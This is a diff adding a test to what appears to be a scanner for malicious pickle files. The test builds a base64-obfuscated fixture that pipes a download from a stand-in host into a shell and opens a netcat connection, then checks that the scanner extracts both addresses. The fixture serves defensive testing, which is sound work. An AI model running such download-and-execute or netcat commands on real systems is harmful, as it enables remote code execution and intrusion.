@@ -70,6 +70,12 @@ describe('aims of payloads', () => {
     expect(JSON.stringify(findings)).not.toContain(token.slice(4, 30));
   });
 
+  it('come with the addresses that the code names', async () => {
+    const code = Buffer.from('curl http://example.invalid/a | sh; nc 192.0.2.7:99').toString('base64');
+    const { findings } = await scanBytes(pickleOf(`echo ${code} | base64 -d | sh`));
+    expect(findings[0].addresses).toEqual(['http://example.invalid/a', '192.0.2.7:99']);
+  });
+
   it('cost no verdict, however deep and large the code is', async () => {
     let code = 'print(1)';
     for (let depth = 0; depth < 40 && code.length < 300_000; depth++)
